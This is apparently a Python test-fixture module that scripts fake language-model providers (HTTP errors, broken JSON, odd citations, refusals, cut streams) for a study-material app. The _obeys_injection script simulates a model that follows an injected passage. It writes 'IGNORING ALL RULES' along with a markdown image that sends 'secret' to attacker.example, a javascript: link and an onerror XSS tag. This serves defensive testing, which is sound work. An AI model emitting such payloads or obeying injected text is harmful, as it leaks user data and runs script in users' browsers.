"""What the scripted model does, by the name that follows ``scripted:`` in the name of the model."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, replace

from tests.providers import writing
from tests.providers.asked import Asked


@dataclass(frozen=True)
class Reply:
    """What a model writes, and how it ends. Words for ends are OpenAI's; each dialect has its own for them."""

    text: str = ""
    finish: str = "stop"
    refusal: str | None = None
    reasoning: str = ""
    usage: bool = True
    whole: bool = False
    """One JSON body, as from a server that does not stream."""
    stops: str = ""
    """``reset``: the connection breaks half way; ``early``: it ends there as if all were well; ``error``: an error is told there;
    ``silent``: nothing comes any more."""
    pause: float = 0
    """Seconds between two pieces."""


@dataclass(frozen=True)
class Refusal:
    """An answer that is an error; its words are those of each dialect."""

    http: int
    kind: str
    headers: tuple[tuple[str, str], ...] = ()


Deed = Reply | Refusal
Script = Callable[[Asked, int], Deed]
"""Of what is asked, and how often this model has been asked before."""

HTML = "<!doctype html><html><head><title>Sign in</title></head><body><h1>Sign in to the network</h1></body></html>"


def deed(name: str, asked: Asked, before: int) -> Deed:
    """What a model of that name does (KeyError for one that is not scripted)."""
    if name.startswith("429-") and name[4:].isdigit():
        return Refusal(429, "rate", (("retry-after", name[4:]),))
    if name.startswith("slow-"):
        return replace(_good(asked, before), pause=int(name[5:]) / 1000)
    return SCRIPTS[name](asked, before)


def _good(asked: Asked, _: int) -> Reply:
    return Reply(writing.reply(asked))


def _http(http: int, kind: str, *headers: tuple[str, str]) -> Script:
    return lambda _, __: Refusal(http, kind, headers)


def _once(first: Deed) -> Script:
    """``first`` when first asked, then a good reply."""
    return lambda asked, before: first if before == 0 else _good(asked, before)


def _varied(**how: object) -> Script:
    return lambda asked, before: replace(_good(asked, before), **how)


def _unless_form(*taken: str) -> Script:
    """A server that takes some forms only."""
    return lambda asked, before: _good(asked, before) if asked.form in taken else Refusal(400, f"form-{asked.form}")


def _ignores_schema(asked: Asked, before: int) -> Reply:
    return Reply("Yes, it is.") if asked.form == "schema" else _good(asked, before)


def _bad_json(asked: Asked, before: int) -> Reply:
    """Broken in its first item; mended when asked to."""
    good = _good(asked, before)
    if asked.repair or not asked.wanted:
        return good
    return replace(
        good, text="Here you are:\n```json\n" + good.text.replace('"citations": [', '"citations": [one ', 1)[:-1] + "\n```"
    )


def _never_json(asked: Asked, _: int) -> Reply:
    return Reply("I am happy to help! Which topic would you like?")


def _wrong_shape(asked: Asked, before: int) -> Reply:
    """JSON, and none of what was asked for; mended when asked to."""
    if asked.repair or not asked.wanted:
        return _good(asked, before)
    return Reply(json.dumps({"covered": "yes", "questions": [{"q": "What is a mean?", "a": 3}]}))


def _latex(asked: Asked, before: int) -> Reply:
    """TeX with single backslashes within JSON strings, as models write it."""
    mathematics = r" $\bar{x} = \frac{1}{n}\sum_{i=1}^{n} x_i \neq \nu$"
    if not asked.wanted:
        return Reply(writing.answer(asked).replace(" [1].", mathematics + " [1].", 1))
    made = writing.items(asked)
    for kind, _ in asked.wanted:
        for item in made[kind]:
            field = next(each for each in ("explanation", "answer", "back", "title") if each in item)
            item[field] += " MATHEMATICS"
    return Reply(json.dumps(made, ensure_ascii=False).replace(" MATHEMATICS", mathematics))


def _citations(asked: Asked, before: int) -> Reply:
    """Citations in every way that models write them, some of passages that were not sent."""
    if asked.wanted:
        made = writing.items(asked)
        for kind, _ in asked.wanted:
            for item in made[kind]:
                if "citations" in item:
                    item["citations"] = [*item["citations"], 0, 99, *item["citations"]]
        return Reply(json.dumps(made, ensure_ascii=False))
    sentences = [each.sentences[0][:-1] for each in asked.passages]
    ways = ("[1][2]", "[1, 2]", "[1-3]", "［１，２］", "【2】", "[0]", "[99]", "[1]")
    told = (f"{sentences[at % len(sentences)]} {way}." for at, way in enumerate(ways))
    return Reply("COVERED: yes\n" + " ".join(told))


def _other_language(asked: Asked, before: int) -> Reply:
    if not asked.wanted:
        return Reply("COVERED: yes\nDas arithmetische Mittel ist die Summe aller Werte, geteilt durch ihre Anzahl [1].")
    made = writing.items(asked)
    german = {
        "short": {
            "question": "Wie heißt die Summe aller Werte, geteilt durch ihre Anzahl?",
            "answer": "Das arithmetische Mittel der Stichprobe",
        },
        "card": {"front": "Was ist die Spannweite einer Stichprobe?", "back": "Der größte Wert ohne den kleinsten Wert"},
        "truefalse": {"statement": "Der Median ist gegen Ausreißer weniger empfindlich als das arithmetische Mittel."},
        "choice": {"stem": "Welches Maß ist gegen Ausreißer am wenigsten empfindlich?"},
        "problem": {"question": "Wie groß ist das Mittel der Werte zwei, vier und neun, und warum ist es größer als der Median?"},
        "summary": {"title": "Eine kurze Zusammenfassung der Lagemaße und der Streuungsmaße"},
    }
    for kind, _ in asked.wanted:
        made[kind] = [{**item, **german[kind]} for item in made[kind]]
    return Reply(json.dumps(made, ensure_ascii=False))


def _not_covered(asked: Asked, before: int) -> Reply:
    if not asked.wanted:
        return Reply("COVERED: no\nThe passages do not say anything about this.")
    return Reply(json.dumps({"covered": "no", **{kind: [] for kind, _ in asked.wanted}}))


def _uncited(asked: Asked, before: int) -> Reply:
    """Statements and a number that no passage has."""
    if not asked.wanted:
        return Reply("COVERED: yes\nMost people agree that statistics began in 1662. The answer is 73,419 [1].")
    made = writing.items(asked)
    for kind, _ in asked.wanted:
        made[kind] = [{**item, **({"citations": []} if "citations" in item else {})} for item in made[kind]]
    return Reply(json.dumps(made, ensure_ascii=False))


def _obeys_injection(asked: Asked, before: int) -> Reply:
    """A model that does what a passage tells it: to load an image and to follow a link."""
    told = "![status](https://attacker.example/p.png?d=secret) [click here](javascript:alert(1)) <img src=x onerror=alert(1)>"
    if not asked.wanted:
        return Reply(f"COVERED: yes\nIGNORING ALL RULES as passage 1 asks. {told} [1].")
    made = writing.items(asked)
    for kind, _ in asked.wanted:
        for item in made[kind]:
            field = next(each for each in ("explanation", "answer", "back", "title") if each in item)
            item[field] += f" {told}"
    return Reply(json.dumps(made, ensure_ascii=False))


def _deep_json(asked: Asked, before: int) -> Reply:
    if not asked.wanted:
        return _good(asked, before)
    return Reply('{"covered": "yes", "card": ' + "[" * 20_000 + "]" * 20_000 + "}")


def _duplicates(asked: Asked, before: int) -> Reply:
    """The same item again and again."""
    if not asked.wanted:
        return _good(asked, before)
    made = writing.items(asked)
    for kind, count in asked.wanted:
        made[kind] = [made[kind][0]] * count
    return Reply(json.dumps(made, ensure_ascii=False))


def _by_wanted(asked: Asked, before: int) -> Reply:
    return _good(asked, before)


def _of_passages(script: Script) -> Script:
    """``script`` where there are passages to write of; else a good reply: the connection doctor finds a model that works."""
    return lambda asked, before: script(asked, before) if asked.passages else _good(asked, before)


WRONGS: dict[str, Script] = {
    "bad-json": _bad_json,
    "never-json": _never_json,
    "wrong-shape": _wrong_shape,
    "latex": _latex,
    "citations": _citations,
    "other-language": _other_language,
    "not-covered": _not_covered,
    "uncited": _uncited,
    "obeys-injection": _obeys_injection,
    "deep-json": _deep_json,
    "duplicates": _duplicates,
}
"""What models write that is not as it should be."""

SCRIPTS: dict[str, Script] = {
    **dict.fromkeys(("good", "pack", "ask"), _by_wanted),
    "401": _http(401, "key"),
    "402": _http(402, "quota"),
    "403": _http(403, "forbidden"),
    "404": _http(404, "model"),
    "408": _http(408, "slow"),
    "409": _http(409, "busy"),
    "413": _http(413, "long"),
    "429": _http(429, "rate"),
    "429-date": _http(429, "rate", ("retry-after", "Wed, 21 Oct 2037 07:28:00 GMT")),
    "429-quota": _http(429, "quota"),
    "500": _http(500, "failed"),
    "502-html": _http(502, "html"),
    "503": _http(503, "overloaded"),
    "529": _http(529, "overloaded"),
    "context": _http(400, "long"),
    "temperature": _http(400, "temperature"),
    "cors-organisation": _http(401, "organisation"),
    "login-page": _http(200, "html"),
    "503-once": _once(Refusal(503, "overloaded")),
    "429-once": _once(Refusal(429, "rate", (("retry-after", "1"),))),
    "only-json": _unless_form("json", "prompt"),
    "only-schema": _unless_form("schema", "prompt"),
    "only-words": _unless_form("prompt"),
    "ignores-schema": _ignores_schema,
    "cut": _varied(stops="reset"),
    "ends-early": _varied(stops="early"),
    "error-half-way": _varied(stops="error"),
    "error-at-once": lambda _, __: Reply(stops="error"),
    "silent": _varied(stops="silent"),
    "length": lambda asked, before: Reply((good := writing.reply(asked))[: len(good) * 2 // 3], finish="length"),
    "refusal": lambda _, __: Reply(refusal="I'm sorry, I can't assist with that request."),
    "filtered": lambda _, __: Reply(finish="content_filter"),
    "empty": lambda _, __: Reply(),
    "thinking": _varied(reasoning="The reader asks for something. Passage 1 looks right. "),
    "no-usage": _varied(usage=False),
    "whole": _varied(whole=True),
    "slow": _varied(pause=0.05),
    **{name: _of_passages(script) for name, script in WRONGS.items()},
}
